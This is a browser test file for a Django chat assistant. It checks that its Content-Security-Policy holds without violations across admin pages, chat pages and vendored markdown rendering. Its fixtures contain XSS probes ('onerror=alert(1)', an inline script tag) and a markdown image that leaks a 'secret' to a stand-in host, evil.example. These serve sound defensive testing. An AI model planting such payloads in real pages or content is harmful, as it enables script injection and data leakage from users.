"""The Content-Security-Policy in chromium: our pages, the admin and the vendored libraries
run under it without a single violation (no inline script or style anywhere)."""

from __future__ import annotations

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from assistant.models import Conversation, Message
from tests.helpers.browser import login_context

pytestmark = pytest.mark.browser

# Installed before any page script; CDP-injected, so the policy does not block it.
VIOLATION_RECORDER = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolations.push(event.violatedDirective + " " + (event.blockedURI || "inline"));
});
"""

RICH_ANSWER = """# Überschrift

Text mit **fett**, *kursiv*, ~~weg~~, `code` und [Link](https://docs.example/).

| links | mitte | rechts |
|:------|:-----:|-------:|
| a     | b     | c      |

```python
def f(x):
    return {"x": x}  # <script>alert(1)</script>
```

```json
{"a": [1, 2, 3]}
```

![Bild](https://evil.example/leak.png?d=secret) <img src=x onerror=alert(1)>
"""


class Watched:
    """A page that records CSP violations, console complaints, JS errors and dialogs."""

    def __init__(self, context) -> None:
        context.add_init_script(VIOLATION_RECORDER)
        self.context = context
        self.page = context.new_page()
        self.console: list[str] = []
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        self.page.on("console", self._on_console)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("dialog", self._on_dialog)

    def _on_console(self, message) -> None:
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            self.console.append(message.text)

    def _on_dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def visit(self, url: str) -> None:
        response = self.page.goto(url)
        assert response is not None
        assert response.status == 200, (url, response.status)
        assert "'unsafe-inline'" not in response.headers["content-security-policy"]
        self.page.wait_for_load_state("load")
        self.assert_clean(url)

    def assert_clean(self, where: str) -> None:
        violations = self.page.evaluate("window.__cspViolations")
        assert violations == [], (where, violations)
        assert self.console == [], (where, self.console)
        assert self.errors == [], (where, self.errors)
        assert self.dialogs == [], (where, self.dialogs)


@pytest.fixture
def root(db):
    return get_user_model().objects.create_superuser("root", password="root-password-1")


@pytest.fixture
def conversation(root) -> Conversation:
    conversation = Conversation.objects.create(owner=root, title="Quartalsbericht", model="demo")
    Message.objects.create(conversation=conversation, role="user", content="<img src=x onerror=alert(1)>")
    Message.objects.create(conversation=conversation, role="assistant", content=RICH_ANSWER)
    return conversation


def test_csp_admin_pages_have_no_violations(live, root, conversation, browser):
    anonymous = Watched(browser.new_context())
    anonymous.visit(live.url + reverse("admin:login"))
    anonymous.context.close()

    staff = Watched(login_context(browser, live, root))
    for url in [
        reverse("admin:index"),
        reverse("admin:assistant_conversation_changelist"),
        reverse("admin:assistant_conversation_changelist") + "?q=Quartal",
        reverse("admin:assistant_conversation_change", args=[conversation.pk]),
        reverse("admin:auth_user_changelist"),
        reverse("admin:auth_user_change", args=[root.pk]),
        reverse("admin:auth_user_add"),
    ]:
        staff.visit(live.url + url)
    staff.context.close()


def test_csp_chat_pages_have_no_violations(live, root, conversation, browser):
    watched = Watched(login_context(browser, live, root))
    watched.visit(live.url + reverse("chat"))
    watched.visit(live.url + reverse("conversation", args=[conversation.pk]))
    watched.context.close()


def test_csp_vendored_libraries_render_highlight_and_copy_under_the_policy(live, root, browser):
    watched = Watched(login_context(browser, live, root))
    watched.visit(live.url + reverse("chat"))
    page = watched.page
    for script in [
        "vendor/markdown-it/markdown-it.min.js",
        "vendor/dompurify/purify.min.js",
        "vendor/highlightjs/highlight.min.js",
        "assistant/markdown.js",
    ]:
        page.add_script_tag(url=f"{live.url}/static/{script}")
    page.add_style_tag(url=f"{live.url}/static/vendor/highlightjs/styles/github.min.css")
    result = page.evaluate(
        """(text) => {
          const out = document.createElement("div");
          out.className = "text";
          document.body.appendChild(out);
          out.innerHTML = AssistantMarkdown.render(text);
          AssistantMarkdown.highlight(out);
          AssistantMarkdown.addCopyButtons(out, "Copy", "Copied");
          return {
            highlighted: out.querySelectorAll("code.hljs .hljs-keyword, code.hljs .hljs-attr").length,
            buttons: out.querySelectorAll("pre > .copy-button").length,
            themed: getComputedStyle(out.querySelector("code.hljs")).display,
            links: [...out.querySelectorAll("a")].map((a) => a.className || a.textContent),
          };
        }""",
        RICH_ANSWER,
    )
    page.wait_for_timeout(300)
    assert result["highlighted"] > 0
    assert result["buttons"] == 2
    assert result["themed"] == "block"  # the theme stylesheet applies
    assert result["links"] == ["Link", "image-link"]
    watched.assert_clean("vendored libraries")
    watched.context.close()
